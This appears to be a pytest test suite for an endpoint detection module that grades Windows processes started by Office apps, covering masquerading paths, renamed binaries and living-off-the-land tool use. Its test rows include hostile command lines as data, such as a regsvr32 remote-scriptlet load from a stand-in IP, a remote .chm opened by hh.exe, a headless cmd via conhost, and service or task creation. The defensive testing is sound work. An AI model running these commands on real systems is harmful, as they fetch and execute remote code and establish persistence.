"""core.detection.child_images: names, exceptions and their evasions, seen through the severity they lead to."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.detection import child_images as known
from core.detection.image_path import location
from core.detection.severity import HIGH, INFO, LOW, MEDIUM, Severity, assess
from tests.core.builders import SYSTEM32, process, started

SYSWOW64 = "C:\\Windows\\SysWOW64\\"
PROGRAMS = "C:\\Program Files\\"
PROGRAMS_X86 = "C:\\Program Files (x86)\\"
PROFILE = "C:\\Users\\jdoe\\"
OFFICE = rf"{PROGRAMS}Microsoft Office\root\Office16"
WEBVIEW = rf"{PROGRAMS_X86}Microsoft\EdgeWebView\Application\131.0.2903.70\msedgewebview2.exe"
CLASS = "22d8c27b-47a1-48d1-ad08-7da7abd79617"

HELPER_ROWS: list[tuple[str, str, str, Severity, str]] = [
    ("splwow64", r"C:\Windows\splwow64.exe", "8192", INFO, "known-helper"),
    ("splwow64-12288", r"C:\WINDOWS\SPLWOW64.EXE", "12288", INFO, "known-helper"),
    ("splwow64-system-root", r"\SystemRoot\splwow64.exe", "8192", INFO, "known-helper"),
    ("splwow64-long-path", r"\\?\C:\Windows\splwow64.exe", "8192", INFO, "known-helper"),
    ("splwow64-slashes", "C:/Windows/splwow64.exe", "8192", INFO, "known-helper"),
    ("splwow64-other-number", r"C:\Windows\splwow64.exe", "1", MEDIUM, "odd-helper"),
    ("splwow64-more", r"C:\Windows\splwow64.exe", "8192 x", MEDIUM, "odd-helper"),
    ("splwow64-dots-argument", r"C:\Windows\splwow64.exe", "8192 ..", MEDIUM, "odd-helper"),
    ("splwow64-newline", r"C:\Windows\splwow64.exe", '"8192\n"', MEDIUM, "odd-helper"),
    ("splwow64-name-alone", "splwow64.exe", "8192", MEDIUM, "odd-helper"),
    ("splwow64-on-a-stick", r"E:\Windows\splwow64.exe", "8192", MEDIUM, "odd-helper"),
    ("splwow64-device", r"\Device\HarddiskVolume3\Windows\splwow64.exe", "8192", HIGH, "device-path"),
    ("splwow64-share", r"\\server\c$\Windows\splwow64.exe", "8192", HIGH, "remote-path"),
    ("splwow64-trailing-dot", r"C:\Windows\splwow64.exe.", "8192", HIGH, "masquerade"),
    ("splwow64-trailing-blank", r"C:\Windows\splwow64.exe ", "8192", HIGH, "masquerade"),
    ("splwow64-stream", r"C:\Windows\x:\splwow64.exe", "8192", HIGH, "masquerade"),
    ("splwow64-dots", r"C:\Windows\..\Users\x\splwow64.exe", "8192", HIGH, "masquerade"),
    ("splwow64-dots-back", r"C:\Windows\x\..\splwow64.exe", "8192", HIGH, "masquerade"),
    ("splwow64-root", r"C:\splwow64.exe", "8192", HIGH, "masquerade"),
    ("splwow64-long-s", "C:\\Windows\\\u017fplwow64.exe", "8192", HIGH, "unknown"),
    ("werfault", rf"{SYSTEM32}WerFault.exe", "-u -p 4096 -s 1188", INFO, "known-helper"),
    ("werfault-32-bit", rf"{SYSWOW64}WerFault.exe", "-u -p 4096 -s 1188", INFO, "known-helper"),
    ("werfault-dump", rf"{SYSTEM32}WerFault.exe", "-u -p 1 -ip 1 -s 2", MEDIUM, "odd-helper"),
    ("werfault-look-alike", r"C:\Windows\System32evil\WerFault.exe", "-u -p 1", HIGH, "masquerade"),
    ("werfault-blank", r"C:\Windows \System32\WerFault.exe", "-u -p 1", HIGH, "masquerade"),
    ("dwwin", rf"{SYSWOW64}DWWIN.EXE", "-x -s 1234", INFO, "known-helper"),
    ("dwwin-elsewhere", r"C:\Tools\DWWIN.EXE", "-x -s 1234", HIGH, "masquerade"),
    ("conhost", rf"{SYSTEM32}conhost.exe", "0xffffffff -ForceV1", INFO, "known-helper"),
    ("conhost-command", rf"{SYSTEM32}conhost.exe", "--headless cmd.exe", HIGH, "lolbin"),
    ("conhost-elsewhere", rf"{SYSWOW64}conhost.exe", "0x4", HIGH, "masquerade"),
    ("webview", WEBVIEW, "--type=renderer", INFO, "known-helper"),
    (
        "webview-in-windows",
        rf"{SYSTEM32}Microsoft-Edge-WebView\msedgewebview2.exe",
        "--type=gpu",
        INFO,
        "known-helper",
    ),
    ("webview-launcher", WEBVIEW, r"--browser-subprocess-path=C:\x.exe", HIGH, "lolbin"),
    (
        "webview-look-alike",
        r"C:\Program Files.evil\Microsoft\EdgeWebView\Application\1\msedgewebview2.exe",
        "",
        HIGH,
        "masquerade",
    ),
    ("webview-deeper", rf"{PROGRAMS}x\msedgewebview2.exe", "--type=gpu", HIGH, "masquerade"),
    ("acrobat", rf"{PROGRAMS}Adobe\Acrobat DC\Acrobat\Acrobat.exe", r'"C:\a.pdf"', INFO, "known-helper"),
    ("acrobat-elsewhere", rf"{PROGRAMS}Adobe\Acrobat.exe", r'"C:\a.pdf"', HIGH, "masquerade"),
    ("add-in", rf"{OFFICE}\ADDINS\Microsoft Power Query\bin\Mashup.exe", "1 2", INFO, "add-in"),
    ("add-in-elsewhere", rf"{PROFILE}ADDINS\Mashup.exe", "1 2", HIGH, "writable-path"),
    (
        "add-in-on-a-stick",
        r"E:\Program Files\Microsoft Office\root\Office16\ADDINS\Mashup.exe",
        "1 2",
        MEDIUM,
        "unknown",
    ),
    ("interpreter-as-add-in", rf"{OFFICE}\ADDINS\cmd.exe", "/c dir", HIGH, "interpreter"),
    (
        "teams",
        rf"{PROFILE}AppData\Local\Microsoft\Teams\current\Teams.exe",
        "-Embedding",
        LOW,
        "known-pattern",
    ),
    ("teams-plain", rf"{PROFILE}AppData\Local\Microsoft\Teams\current\Teams.exe", "", HIGH, "writable-path"),
    ("teams-elsewhere", rf"{PROFILE}AppData\Local\Teams\Teams.exe", "-Embedding", HIGH, "writable-path"),
    (
        "teams-dots",
        rf"{PROFILE}AppData\Local\Microsoft\Teams\current\..\Teams.exe",
        "-Embedding",
        HIGH,
        "odd-path",
    ),
    (
        "file-co-auth",
        rf"{PROFILE}AppData\Local\Microsoft\OneDrive\24.226\FileCoAuth.exe",
        "-Embedding",
        LOW,
        "known-pattern",
    ),
]

RUNDLL32 = rf"{SYSTEM32}rundll32.exe"
REGSVR32 = rf"{SYSTEM32}regsvr32.exe"
SCHTASKS = rf"{SYSTEM32}schtasks.exe"
HH = r"C:\Windows\hh.exe"
OFFICE_TASK = r'/change /tn "Microsoft\Office\Office Serviceability Manager"'

PATTERN_ROWS: list[tuple[str, str, str, bool]] = [
    ("print-driver", RUNDLL32, rf"{SYSTEM32}spool\DRIVERS\x64\3\mon.DLL,Status /pjob=2", True),
    ("print-driver-elsewhere", RUNDLL32, rf"{PROFILE}a.dll,Run \system32\spool\ ", False),
    ("print-driver-color", RUNDLL32, rf"{SYSTEM32}spool\drivers\color\a.dll,Run", False),
    ("print-driver-dots", RUNDLL32, rf"{SYSTEM32}spool\drivers\x64\..\color\a.dll,Run", False),
    ("print-driver-first-comma", RUNDLL32, rf"{SYSTEM32}spool\drivers\x64\a.cpl,b.dll,Run", False),
    ("printui", RUNDLL32, 'printui.dll,PrintUIEntry /p /n "Office printer"', True),
    ("printui-quoted", RUNDLL32, rf'"{SYSTEM32}printui.dll",PrintUIEntry /o', True),
    ("printui-install", RUNDLL32, r"printui.dll,PrintUIEntry /if /f \\x\a.inf", False),
    ("printui-joined-install", RUNDLL32, r"printui.dll,PrintUIEntry /q/ia", False),
    ("printui-file", RUNDLL32, r"printui.dll,PrintUIEntry @a.txt", False),
    ("printui-elsewhere", RUNDLL32, rf"{PROFILE}printui.dll,PrintUIEntry /p", False),
    ("link", RUNDLL32, "url.dll,FileProtocolHandler https://example.org/a", True),
    ("link-to-program", RUNDLL32, r"url.dll,FileProtocolHandler C:\x.exe", False),
    ("link-open-url", RUNDLL32, "url.dll,OpenURL https://example.org/a", False),
    ("clear-tracks", RUNDLL32, "InetCpl.cpl,ClearMyTracksByProcess Flags:276824072 WinX:0", True),
    ("hotplug", RUNDLL32, "hotplug.dll,HotPlugSafeRemovalDriveNotification a", True),
    ("net-place", RUNDLL32, "shwebsvc.dll,AddNetPlaceRunDll", True),
    ("network-diagnosis", RUNDLL32, "ndfapi.dll,NdfRunDllDiagnoseWithAnswerFile NetworkDiag a.xml", False),
    ("local-server", RUNDLL32, f"-localserver {CLASS}", True),
    ("local-server-other-class", RUNDLL32, f"-localserver {CLASS[:-1]}8", False),
    ("hidden-after-program", RUNDLL32, r"C:\x.dll,Run rundll32.exe printui.dll,PrintUIEntry", False),
    ("rundll32-elsewhere", r"C:\Tools\rundll32.exe", "printui.dll,PrintUIEntry /p", False),
    ("rundll32-look-alike", r"C:\Windows\System32evil\rundll32.exe", "printui.dll,PrintUIEntry", False),
    ("rundll32-on-a-stick", r"E:\Windows\System32\rundll32.exe", "printui.dll,PrintUIEntry", False),
    ("regsvr32", REGSVR32, rf'/s "{PROGRAMS}Vendor\addin.dll"', True),
    ("regsvr32-ocx", REGSVR32, rf"{SYSTEM32}mscomctl.OCX /s", True),
    ("regsvr32-sct", REGSVR32, "/s /n /u /i:http://192.0.2.1/a.sct scrobj.dll", False),
    ("regsvr32-sct-path", REGSVR32, rf"/s /n /i:http://192.0.2.1/a.sct {SYSTEM32}scrobj.dll", False),
    ("regsvr32-profile", REGSVR32, rf"/s {PROFILE}a.dll", False),
    ("regsvr32-look-alike", REGSVR32, r'/s "C:\Program Files.evil\a.dll"', False),
    ("regsvr32-dots", REGSVR32, r'/s "C:\Program Files\..\Users\jdoe\a.dll"', False),
    ("regsvr32-subfolder", REGSVR32, rf"/s {SYSTEM32}spool\drivers\color\a.dll", False),
    ("regsvr32-stream", REGSVR32, rf'/s "{PROGRAMS}Vendor\a.txt:b.dll"', False),
    ("schtasks", SCHTASKS, f"{OFFICE_TASK} /disable", True),
    ("schtasks-action", SCHTASKS, f"{OFFICE_TASK} /tr x.exe", False),
    ("schtasks-create", SCHTASKS, OFFICE_TASK.replace("change", "create"), False),
    ("hh", HH, rf'"{PROGRAMS}Vendor\help.chm"', True),
    ("hh-topic", HH, rf'-mapid 1000 "{PROGRAMS}Vendor\help.chm::/start.htm"', True),
    ("hh-mapid-elsewhere", HH, rf"-mapid 1000 {PROFILE}a.chm", False),
    ("hh-url", HH, "-mapid 1000 http://192.0.2.1/a.chm", False),
    ("sc", rf"{SYSTEM32}sc.exe", "queryex Spooler", True),
    ("sc-create", rf"{SYSTEM32}sc.exe", "create x binpath= queryex", False),
    ("sc-remote", rf"{SYSTEM32}sc.exe", r"\\server queryex", False),
]


@pytest.mark.parametrize(
    ("image", "arguments", "severity", "kind"), [pytest.param(*row[1:], id=row[0]) for row in HELPER_ROWS]
)
def test_a_helper_is_known_by_its_path_and_its_arguments(
    image: str, arguments: str, severity: Severity, kind: str
) -> None:
    """Each exception, and the ways around it."""
    assessment = assess(started(image, arguments))

    assert (severity, kind) == (assessment.severity, assessment.kind)


@pytest.mark.parametrize(
    ("image", "arguments", "is_known"), [pytest.param(*row[1:], id=row[0]) for row in PATTERN_ROWS]
)
def test_a_system_tool_is_low_only_in_the_exact_use_of_office(
    image: str, arguments: str, is_known: bool
) -> None:
    """Directory and arguments both have to fit; every evasion stays high."""
    assessment = assess(started(image, arguments))

    expected = (LOW, "known-pattern") if is_known else (HIGH, "lolbin")
    assert expected == (assessment.severity, assessment.kind)


@pytest.mark.parametrize("name", sorted(known.INTERPRETERS))
def test_every_interpreter_is_high(name: str) -> None:
    """No interpreter is shadowed by another rank."""
    assert kind_of(name) == (HIGH, "interpreter")


@pytest.mark.parametrize("name", sorted(known.LOLBINS - known.HELPERS.keys()))
def test_every_lolbin_is_high(name: str) -> None:
    """No system tool is shadowed by another rank."""
    assert kind_of(name) == (HIGH, "lolbin")


@pytest.mark.parametrize("name", sorted(known.DISCOVERY))
def test_every_discovery_tool_is_medium(name: str) -> None:
    """No discovery tool is shadowed by another rank."""
    assert kind_of(name) == (MEDIUM, "discovery")


@pytest.mark.parametrize("name", sorted(known.DCOM_CHILDREN))
def test_every_child_of_activate_microsoft_app_is_high(name: str) -> None:
    """Nor are the three programs that Excel starts for a caller over DCOM."""
    assert kind_of(name) == (HIGH, "dcom")


@pytest.mark.parametrize("name", sorted(known.TAMPERING))
def test_every_tool_that_removes_logs_or_backups_is_high(name: str) -> None:
    """No such tool is shadowed by another rank."""
    assert kind_of(name) == (HIGH, "tampering")


@pytest.mark.parametrize("ending", known.SCRIPT_ENDINGS)
def test_every_script_that_explorer_opens_is_high(ending: str) -> None:
    """Whatever host it ends with."""
    found = assess(started(r"C:\Windows\explorer.exe", rf'"C:\a b\run{ending.upper()}"'))

    assert (found.severity, found.kind) == (HIGH, "script")


def kind_of(name: str) -> tuple[Severity, str]:
    assessment = assess(started(f"{SYSTEM32}{name}", "x"))
    return assessment.severity, assessment.kind


@pytest.mark.parametrize(
    ("image", "original", "kind"),
    [
        pytest.param(rf"{PROGRAMS}Vendor\report.exe", "Cmd.Exe", "masquerade", id="renamed-shell"),
        pytest.param(r"C:\Windows\splwow64.exe", "PowerShell.EXE", "masquerade", id="shell-as-helper"),
        pytest.param(rf"{SYSTEM32}cmd.exe", "Cmd.Exe", "interpreter", id="same-in-other-case"),
        pytest.param(rf"{SYSTEM32}reg.exe", "reg.exe.mui", "discovery", id="language-file"),
        pytest.param(rf"{PROGRAMS}PowerShell\7\pwsh.exe", "pwsh.dll", "interpreter", id="dotnet"),
        pytest.param(rf"{OFFICE}\excelcnv.exe", "Excel.exe", "application", id="excelcnv"),
        pytest.param(rf"{SYSTEM32}systeminfo.exe", "sysinfo.exe", "discovery", id="systeminfo"),
        pytest.param(rf"{SYSTEM32}whoami.exe", None, "discovery", id="not-recorded"),
        pytest.param(rf"{SYSTEM32}whoami.exe", "", "discovery", id="empty"),
        pytest.param(rf"{SYSTEM32}eventcreate.exe", "evcreate.exe", "unknown", id="eventcreate"),
        pytest.param(rf"{SYSTEM32}tree.com", "TREE.COM", "not-exe", id="com"),
        pytest.param(rf"{PROGRAMS}Vendor\a.exe", "tree.com", "masquerade", id="renamed-com"),
        pytest.param(rf"{PROGRAMS}Vendor\a.exe", "Show.SCR", "masquerade", id="renamed-screen-saver"),
        pytest.param(
            rf"{PROGRAMS}Vendor\a.exe", "Cmd.Exe.MUI", "masquerade", id="renamed-with-language-file"
        ),
        pytest.param(rf"{PROGRAMS}Vendor\a.exe", "msedgeupdate.dll", "application", id="name-of-a-library"),
        pytest.param(rf"{PROGRAMS}Vendor\a.exe", "psexec.c", "application", id="name-of-a-source"),
        pytest.param(rf"{PROGRAMS}Vendor\a.exe", "Vendor App", "application", id="name-of-a-product"),
    ],
)
def test_a_file_that_was_built_under_another_name_is_a_masquerade(
    image: str, original: str | None, kind: str
) -> None:
    """Sysmon's OriginalFileName is compared without case and extension, where it is a program's name at all."""
    assert kind == assess(started(image, "8192", original_file_name=original)).kind


folders = st.text(alphabet=st.characters(exclude_characters="\\/", exclude_categories=["Cs"]), max_size=12)
near_folders = st.sampled_from(
    ["Windows", "System32", "SysWOW64", "System32evil", "Program Files", "..", ".", "C:", "\\\\"]
)


@given(
    st.sampled_from(sorted(known.HELPERS)),
    st.lists(folders | near_folders, max_size=5),
    st.sampled_from(["8192", "-u -p 1 -s 2", "0x4", "", None]),
)
def test_a_helper_outside_its_own_directory_is_at_least_medium(
    name: str, parts: list[str], arguments: str | None
) -> None:
    """Whatever stands before the name: unless it is the one directory on drive C, it is no excuse."""
    image = "\\".join(("C:", *parts, name))
    line = None if arguments is None else f'"{image}" {arguments}'
    found = assess(process(image_path=image, command_line=line))

    place = location(image)
    if not place.is_in(known.HELPERS[name].directory):
        assert found.severity in (HIGH, MEDIUM)


@given(st.text(alphabet="\\/.:~ cCwWindosSystem32", max_size=40))
def test_only_spellings_of_one_directory_make_a_helper_known(prefix: str) -> None:
    """A known helper is known for `C:\\Windows`, however its separators are written, and for nothing else."""
    found = assess(process(image_path=f"{prefix}splwow64.exe", command_line="splwow64.exe 8192"))

    if found.severity in (INFO, LOW):
        folders_written = [part for part in prefix.lower().strip(" ").replace("/", "\\").split("\\") if part]
        assert folders_written == ["c:", "windows"]
